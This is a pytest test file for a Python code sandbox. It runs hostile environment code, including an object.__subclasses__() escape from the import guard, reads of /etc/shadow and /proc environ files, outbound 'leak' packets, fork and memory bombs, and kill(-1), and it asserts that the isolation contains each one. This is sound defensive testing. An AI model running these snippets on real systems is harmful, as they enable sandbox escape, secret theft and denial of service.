"""Hostile environment code against the real sandbox (bwrap or unshare, per-slot uid, rlimits,
cgroups). Each case must be contained: this process (the daemon's stand-in) survives, the call
fails with a reason, nothing reaches a loopback listener, a canary secret is not read, nothing is
written outside, and no process of the slot's uid outlives the environment.

The attacks first smuggle the real `os` and `__import__` past the worker's import guard (via
`object.__subclasses__()`), so what is tested is the OS-level isolation, not the Python guard.
"""

from __future__ import annotations

import os
import socket
import textwrap
import threading
from pathlib import Path

import anyio
import pytest

from spade_async.core.config import SandboxConfig
from spade_async.envs.validate import validate
from spade_async.sandbox.errors import EnvException, SandboxError
from spade_async.sandbox.runtime import Sandbox

CFG = SandboxConfig(slots=2, warm_workers=1, call_timeout_s=3.0, load_timeout_s=5.0)

SMUGGLE = '''
def _smuggle():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            g = c.__init__.__globals__
            return g, g["__builtins__"]["__import__"]
OS, IMPORT = _smuggle()
class _OS:
    def __getattr__(self, k):
        return OS[k]
os = _OS()
'''


def env_code(reset_body: str, step_body: str = "return 'ok', 0.0, True, False, {}") -> str:
    """An Environment whose reset (or step) runs the attack; bodies are dedented snippets."""

    def block(body: str) -> str:
        return textwrap.indent(textwrap.dedent(body).strip("\n"), " " * 8)

    return SMUGGLE + "\n".join([
        "class Environment:",
        "    name = 'hostile'",
        "    description = 'hostile'",
        "    max_turns = 2",
        "    def reset(self, seed):",
        block(reset_body),
        "        return 'survived', {}",
        "    def step(self, action):",
        block(step_body),
        "    def hint(self):",
        "        return 'h'",
    ]) + "\n"


GOOD = textwrap.dedent("""
    class Environment:
        name = "echo"
        description = "say hi"
        max_turns = 1
        def reset(self, seed):
            return "say hi", {}
        def step(self, action):
            return "bye", float(action == "hi"), True, False, {}
        def hint(self):
            return "say hi"
""")


def _uid_processes(uids: set[int]) -> list[int]:
    """Live processes (zombies awaiting the host's reaper do not count) owned by `uids`."""
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            status = dict(
                line.split(":", 1) for line in (d / "status").read_text().splitlines() if ":" in line
            )
            if int(status["Uid"].split()[0]) in uids and not status["State"].strip().startswith("Z"):
                found.append(int(d.name))
        except (OSError, ValueError, KeyError):
            pass
    return found


@pytest.fixture
async def sandbox():
    async with Sandbox(CFG) as sb:
        assert sb.isolation.name in ("bwrap", "unshare"), "these tests need real isolation"
        uids = set(sb.uids)  # its own block: other sandboxes on this host run other uids
        yield sb
    # Nothing outlives the sandbox: no process runs under any of its slot uids.
    with anyio.fail_after(5):
        while _uid_processes(uids):
            await anyio.sleep(0.05)


async def run_hostile(sb: Sandbox, code: str, op: str = "reset") -> SandboxError | str:
    """Open, run `op`, close; return the error (or the observation when it did not fail)."""
    async with sb.open(code) as env:
        uid = sb.isolation.uid(env.worker.slot)
        try:
            if op == "reset":
                result: SandboxError | str = (await env.reset(0)).observation
            else:
                await env.reset(0)
                result = (await env.step("x")).observation
        except SandboxError as exc:
            result = exc
        left = _uid_processes({uid})  # this env's processes, children included
    with anyio.fail_after(5):  # ...are all gone once the environment is closed
        while [p for p in left if p in _uid_processes({uid})]:
            await anyio.sleep(0.05)
    # The daemon is fine and the sandbox still serves a good environment.
    async with sb.open(GOOD) as env:
        await env.reset(0)
        assert (await env.step("hi")).reward == 1.0
    return result


class Listener:
    """TCP and UDP listeners on loopback that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.hits: list[str] = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._tcp, daemon=True),
                         threading.Thread(target=self._udp, daemon=True)]
        for t in self._threads:
            t.start()

    def _tcp(self) -> None:
        while not self._stop.is_set():
            try:
                conn, addr = self.tcp.accept()
                self.hits.append(f"tcp {addr}")
                conn.close()
            except OSError:
                pass

    def _udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, addr = self.udp.recvfrom(100)
                self.hits.append(f"udp {addr} {data!r}")
            except OSError:
                pass

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join()
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


async def test_tcp_egress_reaches_nothing(sandbox, listener):
    port = listener.tcp.getsockname()[1]
    res = await run_hostile(sandbox, env_code(f"""
        s = IMPORT("socket")
        c = s.create_connection(("127.0.0.1", {port}), timeout=1)
    """))
    assert isinstance(res, EnvException) and "Connection refused" in str(res), res
    res = await run_hostile(sandbox, env_code("""
        s = IMPORT("socket")
        s.create_connection(("1.1.1.1", 53), timeout=1)
    """))
    assert isinstance(res, EnvException) and "unreachable" in str(res), res
    await anyio.sleep(0.3)
    assert listener.hits == []


async def test_udp_egress_reaches_nothing(sandbox, listener):
    port = listener.udp.getsockname()[1]
    res = await run_hostile(sandbox, env_code(f"""
        s = IMPORT("socket")
        u = s.socket(s.AF_INET, s.SOCK_DGRAM)
        for _ in range(20):
            u.sendto(b"leak", ("127.0.0.1", {port}))
        u.sendto(b"leak", ("8.8.8.8", 53))
    """))
    assert isinstance(res, EnvException) and "unreachable" in str(res), res
    await anyio.sleep(0.5)
    assert listener.hits == []


async def test_parent_environ_and_host_files_are_not_readable(sandbox, tmp_path, monkeypatch):
    secret = "canary-7f3e9b1d"
    monkeypatch.setenv("SPADE_TEST_SECRET", secret)
    canary = tmp_path / "canary.txt"
    canary.write_text(secret)
    canary.chmod(0o644)
    me = os.getpid()
    repo_file = Path(__file__).resolve()
    res = await run_hostile(sandbox, env_code(f"""
        seen = []
        for path in ["/proc/{me}/environ", "/proc/1/environ", "/proc/self/environ",
                     "{canary}", "{repo_file}", "/etc/shadow", "/etc/passwd",
                     "/root/.bash_history", "/proc/{os.getppid()}/cmdline"]:
            try:
                seen.append(path + "=" + open(path, "rb").read().decode(errors="replace"))
            except OSError as e:
                seen.append(path + " !" + type(e).__name__)
        env = repr(dict(OS["environ"]))
        raise RuntimeError(" | ".join(seen) + " ENV " + env)
    """.replace("open(", "IMPORT('builtins').open(")))
    assert isinstance(res, EnvException)
    text = str(res)
    assert secret not in text
    assert f"{canary} !FileNotFoundError" in text and f"{repo_file} !FileNotFoundError" in text
    assert "/etc/shadow !FileNotFoundError" in text


async def test_nothing_is_written_outside_the_sandbox(sandbox, tmp_path):
    target = tmp_path / "pwned"
    tmp_path.chmod(0o777)
    res = await run_hostile(sandbox, env_code(f"""
        errors = []
        for path in ["{target}", "/usr/pwned", "/pwned", "/proc/pwned", "/dev/pwned"]:
            try:
                with IMPORT("builtins").open(path, "w") as f:
                    f.write("x")
                errors.append(path + " WRITTEN")
            except OSError as e:
                errors.append(path + " " + type(e).__name__)
        raise RuntimeError(" | ".join(errors))
    """))
    assert isinstance(res, EnvException)
    assert not target.exists() and not Path("/usr/pwned").exists() and not Path("/pwned").exists()
    assert f"{target} WRITTEN" not in str(res) and "/usr/pwned WRITTEN" not in str(res)


async def test_fork_bomb_is_contained(sandbox):
    res = await run_hostile(sandbox, env_code("""
        while True:
            try:
                OS["fork"]()
            except OSError:
                pass
    """))
    assert isinstance(res, SandboxError) and res.kind in ("timeout", "crashed"), res


async def test_memory_bomb_is_contained(sandbox):
    res = await run_hostile(sandbox, env_code("""
        hog = []
        while True:
            hog.append(bytearray(16 << 20))
    """))
    assert isinstance(res, SandboxError) and "MemoryError" in str(res) or res.kind == "crashed", res


async def test_busy_loop_hits_the_deadline(sandbox):
    res = await run_hostile(sandbox, env_code("pass", "while True: pass"), op="step")
    assert isinstance(res, SandboxError) and res.kind == "timeout", res
    assert "deadline" in str(res)


async def test_sleeping_forever_while_catching_everything_is_killed(sandbox):
    res = await run_hostile(sandbox, env_code("""
        t = IMPORT("time")
        signal = IMPORT("signal")
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
            signal.signal(s, signal.SIG_IGN)
        while True:
            try:
                t.sleep(1000)
            except BaseException:
                pass
    """))
    assert isinstance(res, SandboxError) and res.kind == "timeout", res


async def test_a_gigabyte_on_stdout_and_on_the_protocol_pipe(sandbox):
    res = await run_hostile(sandbox, env_code("""
        block = "x" * (1 << 20)
        for _ in range(1024):
            print(block)          # fd 1 is /dev/null in the worker
    """))
    assert res == "survived" or (isinstance(res, SandboxError) and res.kind == "timeout"), res
    res = await run_hostile(sandbox, env_code("""
        block = b"y" * (1 << 20)
        for _ in range(1024):
            for fd in range(3, 8):  # the worker's duplicated protocol descriptors
                try:
                    OS["write"](fd, block)
                except OSError:
                    pass
    """))
    assert isinstance(res, SandboxError) and res.kind in ("output_limit", "timeout"), res


async def test_killing_the_parent_or_everything_only_kills_the_sandbox(sandbox):
    res = await run_hostile(sandbox, env_code("""
        for pid in (OS["getppid"](), 1, -1):  # -1: every process it may signal
            try:
                OS["kill"](pid, 9)
            except OSError:
                pass
        OS["kill"](OS["getpid"](), 9)
    """))
    assert isinstance(res, SandboxError) and res.kind == "crashed", res
    assert os.getppid() > 1 and Path(f"/proc/{os.getppid()}").exists()  # our parent lives too


async def test_opening_100k_files_is_refused(sandbox):
    res = await run_hostile(sandbox, env_code("""
        fds = []
        for i in range(100000):
            fds.append(OS["open"]("/tmp/f%d" % i, OS["O_CREAT"] | OS["O_WRONLY"]))
    """))
    assert isinstance(res, EnvException) and "Too many open files" in str(res), res


async def test_filling_the_disk_stops_at_the_private_tmp(sandbox):
    res = await run_hostile(sandbox, env_code("""
        block = b"z" * (1 << 20)
        for i in range(10000):
            fd = OS["open"]("/tmp/fill%d" % i, OS["O_CREAT"] | OS["O_WRONLY"])
            for _ in range(4):
                OS["write"](fd, block)
            OS["close"](fd)
    """))
    assert isinstance(res, EnvException) and ("No space left" in str(res) or "File too large"
                                              in str(res)), res


async def test_a_child_in_a_new_session_does_not_outlive_the_environment(sandbox):
    # run_hostile itself waits until no process of the slot's uid is left.
    res = await run_hostile(sandbox, env_code("""
        if OS["fork"]() == 0:
            OS["setsid"]()
            if OS["fork"]() == 0:
                IMPORT("time").sleep(3600)
            OS["_exit"](0)
    """))
    assert res == "survived", res


async def test_smuggled_imports_are_rejected_statically_and_blocked_at_runtime(sandbox):
    for body in ('__import__("os").system("id")',
                 'getattr(__builtins__, "ev" + "al")("1")',
                 'x = ().__class__.__base__.__subclasses__()'):
        code = GOOD.replace('return "say hi", {}', body + '\n        return "say hi", {}')
        report = await validate(code, sandbox)
        assert not report.accepted
        assert report.failures[0].name == "static.names", report.reason
    # Past the static check, the worker's import guard still refuses.
    res = await run_hostile(sandbox, GOOD.replace('return "say hi", {}',
                                                 'import os\n        return "say hi", {}'))
    assert isinstance(res, EnvException) and "import of 'os' is not allowed" in str(res), res
